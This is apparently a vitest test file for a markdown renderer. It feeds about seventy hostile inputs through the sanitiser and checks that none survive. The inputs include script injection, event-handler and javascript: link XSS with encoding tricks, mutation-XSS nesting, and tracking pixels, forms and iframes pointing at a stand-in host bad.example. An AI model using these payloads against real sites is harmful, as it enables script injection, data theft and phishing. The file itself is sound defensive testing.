import { describe, expect, it } from 'vitest';

import { renderMarkdown } from '../../../src/markdown/render.ts';
import { attackList, attackListNames, hasAttackLists } from '../../fixtures/attack-lists.ts';
import { story } from './places.ts';
import { findings } from './probe.ts';
import { unsanitised } from './unsanitised.ts';

/** What a hostile or careless author may put in a story. Each can do harm where nothing is sanitised. */
const hostile: Record<string, string> = {
  'a script': '<script>steal()</script>',
  'a script within a paragraph': 'Before <script>steal()</script> after.',
  'a script in capitals, closed carelessly': '<SCRIPT>steal()</SCRIPT >',
  'a script cut in two': '<scr<script>ipt>steal()</scr</script>ipt>',
  'a script from elsewhere': '<script src=https://bad.example/x.js></script>',
  'a script that never ends': 'Text\n\n<script>steal()\n\nmore',
  'a picture that fails on purpose': '<img src=x onerror=steal()>',
  'a picture of another server': '![counted](https://bad.example/pixel.gif)',
  'a picture of another server, without a scheme': '<img src="//bad.example/pixel.gif" alt="counted">',
  'a picture with backslashes': '<img src="\\\\bad.example/pixel.gif">',
  'a picture with a choice of sources': '<img srcset="https://bad.example/1.gif 1x" src="">',
  'sources for a picture': '<picture><source srcset="https://bad.example/1.avif"><img alt=""></picture>',
  'a drawing that loads': '<svg onload=steal()><circle r=1 /></svg>',
  'a drawing that moves a link':
    '<svg><a><animate attributeName=href values=javascript:steal() /><text>x</text></a></svg>',
  'a drawing with HTML in it': '<svg><foreignObject><img src=x onerror=steal()></foreignObject></svg>',
  'formulas round a style sheet':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=steal()&gt;">',
  'a style sheet in a drawing': '<svg></p><style><a id="</style><img src=1 onerror=steal()>">',
  'a form round a form': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>',
  'a page without script': '<noscript><p title="</noscript><img src=x onerror=steal()>">',
  'a title that ends early': '<title><img src="</title><img src=x onerror=steal()>"></title>',
  'a text area that ends early': '<textarea><img alt="</textarea><img src=x onerror=steal()>"></textarea>',
  'a template': '<template><script>steal()</script></template>',
  'a shadow tree': '<div><template shadowrootmode=open><script>steal()</script></template></div>',
  'a comment with an end inside': '<!--><img src=x onerror=steal()>-->',
  'a processing instruction': '<?xml-stylesheet ><img src=x onerror=steal()> ?>',
  'a character section': '<![CDATA[ x ]]><b onclick=steal()>x</b>',
  'a link that runs': '[more](javascript:steal())',
  'a link that runs, in mixed case': '[more](JaVaScRiPt:steal())',
  'a link that runs, in references': '[more](&#106;avascript&colon;steal())',
  'a link that runs, with a tab in it': '<a href="java&Tab;script:steal()">more</a>',
  'a link that runs, with a line end in it': '<a href="java\nscript:steal()">more</a>',
  'a link that runs, after a control character': '<a href="&#1;javascript:steal()">more</a>',
  'a link that runs, after blanks': '<a href="  javascript:steal()">more</a>',
  'a link that runs, between angle brackets': '<javascript:steal()>',
  'a link that runs, by reference': '[more][r]\n\n[r]: javascript:steal()',
  'a link in another old script': '[more](vbscript:steal)',
  'a page in a link': '[more](data:text/html;base64,PHNjcmlwdD4=)',
  'a file in a link': '[more](file:///etc/passwd)',
  'a made-up object in a link': '[more](blob:https://paper.example/1)',
  'a source that runs': '<blockquote cite="javascript:steal()">x</blockquote>',
  'a style': '<p style="position:fixed;inset:0;background:url(https://bad.example)">x</p>',
  'a style sheet': '<style>*{background:url(https://bad.example)}</style>',
  'a class of the page': '<div class="appeal">Give to me instead</div>',
  'an event': '<p onmouseover="steal()">x</p>',
  'an event after a slash': '<div>\n<b/onclick="steal()">x</b></div>',
  'an event nobody has heard of': '<details open ontoggle=steal()><summary>x</summary></details>',
  'an event by keyboard': '<a accesskey=x onfocus=steal() autofocus tabindex=1 href="#">x</a>',
  'an id of the page': '<div id="main">x</div>',
  'a name scripts look up': '<a id="location"></a><a name="location"></a>',
  'the label of the notes': '<b id="footnote-label">x</b>',
  'a form': '<form action="https://bad.example"><input name="card"><button>Give</button></form>',
  'a button by itself': '<button formaction="javascript:steal()">x</button>',
  'another page within': '<iframe src="https://bad.example"></iframe>',
  'another page, written out': '<iframe srcdoc="<script>steal()</script>"></iframe>',
  'an object': '<object data="https://bad.example/x.swf"></object><embed src="https://bad.example/x.swf">',
  'another base': '<base href="https://bad.example/">',
  'a jump': '<meta http-equiv="refresh" content="0;url=https://bad.example">',
  'a style sheet by link': '<link rel="stylesheet" href="https://bad.example/x.css">',
  'a portal': '<portal src="https://bad.example"></portal><x-element onclick=steal()></x-element>',
  'a moving text': '<marquee onstart=steal()>x</marquee>',
  'a film': '<video src=x onerror=steal()></video><audio src=x onerror=steal()></audio>',
  'the rest of the page as text': '<plaintext><script>steal()</script>',
  'text that is none': '<xmp><p title="</xmp><img src=x onerror=steal()>">',
  'a drag': '<div draggable=true contenteditable ondragstart=steal()>x</div>',
  microdata: '<div itemscope itemtype="https://schema.org/NewsArticle"><meta itemprop=headline content=x></div>',
  'HTML in a table': '| a |\n|---|\n| <img src=x onerror=steal()> |',
  'HTML in a note': 'x[^1]\n\n[^1]: <svg onload=steal()>',
  'HTML in a pull quote': ':::pullquote\n<script>steal()</script>\n\nx\n:::',
  'a popover': '<div popover id=x>x</div><button popovertarget=x>y</button>',
};

describe.each(Object.entries(hostile))('%s', (_name, markdown) => {
  it('can do nothing in a story', async () => {
    expect(findings((await renderMarkdown(markdown, story)).html)).toEqual([]);
  });

  it('can do nothing in a feed', async () => {
    expect(findings((await renderMarkdown(markdown, { ...story, absolute: 'https://paper.example/a/' })).html)).toEqual(
      [],
    );
  });

  it('is seen by the probe where nothing is sanitised', () => {
    expect(findings(unsanitised(markdown))).not.toEqual([]);
  });
});

describe('what surrounds it', () => {
  it('keeps the story around a script, and nothing of the script', async () => {
    const { html, text } = await renderMarkdown('Before <script>steal()</script> after.\n\nNext.', story);
    expect(html).toBe('<p>Before  after.</p>\n<p>Next.</p>');
    expect(text()).toBe('Before after.\nNext.');
  });

  it('keeps quotation marks in a title from ending it', async () => {
    const { html } = await renderMarkdown(`[x](/a 'say "hi" onclick=steal()')`, story);
    expect(html).toContain('title="say &#x22;hi&#x22; onclick=steal()"');
    expect(findings(html)).toEqual([]);
  });
});

describe.skipIf(!hasAttackLists).each(attackListNames)('attack strings of %s', (name) => {
  it('can do nothing in a story', async () => {
    const vectors = attackList(name);
    const options = { directives: false };
    const got = await Promise.all(
      vectors.map(async (vector) => ({ vector, found: findings((await renderMarkdown(vector, story, options)).html) })),
    );
    expect(got.filter(({ found }) => found.length > 0)).toEqual([]);
    expect(vectors.filter((vector) => findings(unsanitised(vector)).length > 0).length).toBeGreaterThan(20);
  }, 60_000);
});
